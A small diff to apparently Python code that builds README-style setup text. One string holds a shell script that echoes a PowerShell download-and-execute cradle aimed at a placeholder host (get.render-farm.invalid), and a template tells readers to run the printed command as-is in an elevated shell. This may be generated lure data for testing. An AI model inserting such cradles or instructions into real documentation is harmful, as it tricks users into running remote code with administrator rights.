@@ -110,7 +110,7 @@ _PYTHON_CRADLE = (
 )
 _SHELL_CRADLE = (
     "#!/bin/sh\n"
-    "command -v farmctl >/dev/null || echo \"powershell -Command \\\"IEX (New-Object Net.WebClient)"
+    'command -v farmctl >/dev/null || echo "powershell -Command \\"IEX (New-Object Net.WebClient)'
     ".DownloadString('https://get.render-farm.invalid/a.ps1')\\\"\"\n"
 )
 _RUN_IT = "\n## Setup\n\nStart with `{run}`. Run the printed command as-is in an elevated shell.\n"
